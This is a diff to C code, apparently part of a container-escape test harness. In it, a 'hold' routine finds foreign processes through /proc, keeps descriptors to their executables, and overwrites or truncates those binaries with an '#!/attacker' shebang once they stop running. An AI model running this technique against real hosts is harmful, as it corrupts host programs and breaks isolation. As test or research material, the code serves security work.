@@ -175,7 +175,7 @@ static int catch(int seconds, const char *secret) {
 // hold FILE: keeps a descriptor of every foreign program it sees run, and writes to it as soon as nobody runs it any more, until FILE
 // exists. Prints "held PROGRAM" and "written PROGRAM".
 static int hold(const char *end) {
-    struct { int file; dev_t device; ino_t number; char name[128]; } held[256];
+    struct { int file; dev_t device; ino_t number; int written; char name[128]; } held[256];
     int count = 0;
     while (access(end, F_OK)) {
         DIR *processes = opendir("/proc");
@@ -185,24 +185,28 @@ static int hold(const char *end) {
             if (pid < 1 || pid == getpid() || count == sizeof held / sizeof *held)
                 continue;
             snprintf(path, sizeof path, "/proc/%d/exe", pid);
-            long length = readlink(path, target, sizeof target - 1);
-            target[length < 0 ? 0 : length] = 0;
-            // Programs of the image are no prey.
-            if (!strncmp(target, "/bin/", 5) || !strncmp(target, "/attacker", 9))
-                continue;
             struct stat status;
             int file = open(path, O_RDONLY | O_CLOEXEC);
             if (file < 0)
                 file = open(path, O_PATH | O_CLOEXEC);
-            if (file < 0 || fstat(file, &status) < 0)
+            if (file < 0)
                 continue;
+            // By what is held: the process may run another program by now.
+            snprintf(path, sizeof path, "/proc/self/fd/%d", file);
+            long length = readlink(path, target, sizeof target - 1);
+            target[length < 0 ? 0 : length] = 0;
+            // Programs of the image are no prey.
+            if (!strncmp(target, "/bin/", 5) || !strncmp(target, "/attacker", 9) || fstat(file, &status) < 0) {
+                close(file);
+                continue;
+            }
             for (int i = 0; i < count; i++)
                 known |= held[i].device == status.st_dev && held[i].number == status.st_ino;
             if (known) {
                 close(file);
                 continue;
             }
-            held[count].file = file, held[count].device = status.st_dev, held[count].number = status.st_ino;
+            held[count].written = 0, held[count].file = file, held[count].device = status.st_dev, held[count].number = status.st_ino;
             strcpy(held[count++].name, target);
             printf("held %s\n", target);
         }
@@ -212,7 +216,7 @@ static int hold(const char *end) {
             char path[64];
             snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].file);
             int file = open(path, O_WRONLY | O_CLOEXEC);
-            if (file >= 0 && (write(file, "#!/attacker\n", 12) > 0 || !ftruncate(file, 0)))
+            if (file >= 0 && (write(file, "#!/attacker\n", 12) > 0 || !ftruncate(file, 0)) && !held[i].written++)
                 printf("written %s\n", held[i].name);
             close(file);
         }
